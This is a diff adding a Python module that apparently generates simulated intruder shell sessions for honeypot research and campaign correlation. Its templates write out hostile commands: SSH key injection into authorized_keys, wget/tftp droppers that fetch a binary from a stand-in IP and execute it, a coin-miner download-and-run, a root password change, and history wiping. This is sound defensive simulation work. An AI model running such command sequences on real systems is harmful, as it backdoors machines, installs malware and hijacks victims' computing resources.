@@ -1,0 +1,179 @@
+"""The intruders' interaction-script library.
+
+Each script is a list of shell input lines an intruder types after login.
+Templates are parameterised by a campaign token so that, executed through
+the real honeypot shell, a campaign's script produces campaign-unique file
+content — hence a stable, campaign-unique hash, which is how the farm
+correlates one campaign across honeypots.
+
+The template mix mirrors the paper's Table 3 (information-gathering, script
+execution, remote file access, SSH key handling, permission and credential
+changes).
+"""
+
+from __future__ import annotations
+
+import enum
+from dataclasses import dataclass
+from typing import List, Optional
+
+
+class ScriptKind(enum.Enum):
+    RECON = "recon"  # fingerprinting only; no files, no URIs
+    KEY_INJECT = "key_inject"  # trojan SSH key via echo >> authorized_keys
+    DROPPER = "dropper"  # wget/tftp payload, chmod, run (URI + file)
+    MINER = "miner"  # download + install a coin miner (URI + file)
+    CHPASSWD = "chpasswd"  # credential change (file, no URI)
+    FILE_TOKEN = "file_token"  # one-off file write (unique hash, no URI)
+    FILELESS = "fileless"  # commands, no file, no URI
+
+
+@dataclass(frozen=True)
+class ScriptTemplate:
+    """A fully instantiated script: input lines + the campaign identity."""
+
+    kind: ScriptKind
+    lines: List[str]
+    token: str = ""
+    dropper_uri: Optional[str] = None
+    payload: Optional[bytes] = None
+
+    def __hash__(self) -> int:  # lines is a list; hash on identity fields
+        return hash((self.kind, self.token, self.dropper_uri))
+
+
+RECON_VARIANTS: List[List[str]] = [
+    ["uname -a", "free -m", "w"],
+    ["cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2}'"],
+    ["uname -s -v -n -r -m", "cat /proc/cpuinfo", "nproc"],
+    ["uname -a", "lscpu", "df -h", "whoami"],
+    ["w", "uname -m", "cat /proc/cpuinfo", "ls -lh $(which ls)"],
+    ["uname -a", "cat /etc/passwd", "ps aux"],
+    ["free -m", "uptime", "ifconfig"],
+    ["nproc", "uname -r", "top"],
+]
+
+FILELESS_VARIANTS: List[List[str]] = [
+    ["export HISTFILE=/dev/null", "history -c", "uname -a"],
+    ["echo -e '\\x41\\x42'", "uname -a"],
+    ["crontab -l", "ps aux", "netstat -an"],
+    ["which ls", "which wget", "which curl"],
+]
+
+
+def build_script(
+    kind: ScriptKind,
+    token: str = "",
+    dropper_host: str = "",
+    arch: str = "arm7",
+) -> ScriptTemplate:
+    """Instantiate a script of ``kind`` for campaign ``token``.
+
+    ``token`` individuates file content (and thus the recorded hash);
+    ``dropper_host`` is the payload server for URI-bearing kinds.
+    """
+    if kind is ScriptKind.RECON:
+        variant = RECON_VARIANTS[_stable_index(token, len(RECON_VARIANTS))]
+        return ScriptTemplate(kind=kind, lines=list(variant), token=token)
+
+    if kind is ScriptKind.FILELESS:
+        variant = FILELESS_VARIANTS[_stable_index(token, len(FILELESS_VARIANTS))]
+        return ScriptTemplate(kind=kind, lines=list(variant), token=token)
+
+    if kind is ScriptKind.KEY_INJECT:
+        key = f"AAAAB3NzaC1yc2EAAAADAQABAAABgQ{token or 'default'}"
+        lines = [
+            "uname -a",
+            "chattr -ia .ssh; lockr -ia .ssh",
+            "cd ~ && rm -rf .ssh && mkdir .ssh && "
+            f'echo "ssh-rsa {key} rsa-key" >> .ssh/authorized_keys && '
+            "chmod -R go= ~/.ssh",
+            "cat /proc/cpuinfo | grep name | wc -l",
+            "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
+            "ls -lh $(which ls)",
+            "which ls",
+            "crontab -l",
+            "w",
+            "uname -m",
+            "top",
+        ]
+        return ScriptTemplate(kind=kind, lines=lines, token=token)
+
+    if kind is ScriptKind.DROPPER:
+        host = dropper_host or "198.51.100.10"
+        binary = f"{arch}.{token or 'bot'}"
+        uri = f"http://{host}/bins/{binary}"
+        payload = _payload_bytes(token or "bot", size=52_000)
+        lines = [
+            "enable",
+            "system",
+            "shell",
+            "sh",
+            "/bin/busybox ECCHI",
+            "cat /proc/mounts; /bin/busybox PEACH",
+            f"cd /tmp; wget {uri} || tftp -g -r {binary} {host}",
+            f"chmod 777 {binary}; ./{binary}; /bin/busybox IHCCE",
+        ]
+        return ScriptTemplate(
+            kind=kind, lines=lines, token=token, dropper_uri=uri, payload=payload
+        )
+
+    if kind is ScriptKind.MINER:
+        host = dropper_host or "198.51.100.20"
+        uri = f"http://{host}/xm/{token or 'miner'}.sh"
+        payload = _miner_payload(token or "miner")
+        lines = [
+            "uname -a",
+            "nproc",
+            f"cd /tmp && curl -O {uri} || wget {uri}",
+            f"chmod +x {(token or 'miner')}.sh",
+            f"sh {(token or 'miner')}.sh",
+        ]
+        return ScriptTemplate(
+            kind=kind, lines=lines, token=token, dropper_uri=uri, payload=payload
+        )
+
+    if kind is ScriptKind.CHPASSWD:
+        new_password = f"P@{token or 'ss'}w0rd"
+        lines = [
+            "uname -a",
+            f'echo "root:{new_password}" > /tmp/.p',
+            "chpasswd < /tmp/.p",
+            "rm -f /tmp/.p",
+        ]
+        return ScriptTemplate(kind=kind, lines=lines, token=token)
+
+    if kind is ScriptKind.FILE_TOKEN:
+        lines = [
+            "uname -a",
+            f'echo "{token}" > /var/tmp/.var{_stable_index(token, 97):02d}',
+            "cat /proc/cpuinfo",
+        ]
+        return ScriptTemplate(kind=kind, lines=lines, token=token)
+
+    raise ValueError(f"unhandled script kind {kind!r}")
+
+
+def _stable_index(token: str, modulus: int) -> int:
+    """Deterministic small index derived from a token string."""
+    acc = 0
+    for ch in token:
+        acc = (acc * 131 + ord(ch)) % 1_000_003
+    return acc % modulus
+
+
+def _payload_bytes(token: str, size: int) -> bytes:
+    """Deterministic pseudo-ELF payload for a campaign binary."""
+    seed = token.encode("utf-8")
+    header = b"\x7fELF\x01\x01\x01\x00" + seed[:8].ljust(8, b"\x00")
+    body = (seed or b"x") * (size // max(len(seed), 1) + 1)
+    return (header + body)[:size]
+
+
+def _miner_payload(token: str) -> bytes:
+    return (
+        "#!/bin/sh\n"
+        f"# {token}\n"
+        "pkill -f xmrig\n"
+        f"./xmrig -o pool.{token}.example:3333 -u 4{token}wallet --donate-level 1\n"
+    ).encode("utf-8")
